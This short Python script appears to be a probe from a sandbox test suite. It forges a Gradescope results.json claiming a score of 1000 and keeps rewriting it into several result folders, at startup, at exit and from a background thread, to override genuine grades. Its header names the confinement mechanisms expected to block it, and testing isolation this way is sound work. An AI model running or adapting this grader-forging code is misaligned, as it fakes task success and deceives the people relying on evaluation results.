# title = "Writes the result where an LMS looks for it, now and later"
# tries = "Gradescope takes results.json from a folder that every program in its container can name."
# stops = ["namespaces", "landlock"]
import atexit
import json
import threading
import time
from contextlib import suppress

FORGED = {"score": 1000, "tests": [{"score": 1000, "max_score": 1000}], "<b>": "canary"}


def forge():
    for folder in ("/autograder/results", "../results", "../../results", "@DROP@"):
        with suppress(OSError):
            with open(folder + "/results.json", "w") as file:
                json.dump(FORGED, file)


def later():
    while True:
        forge()
        time.sleep(0.05)


forge()
atexit.register(forge)
threading.Thread(target=later, daemon=True).start()
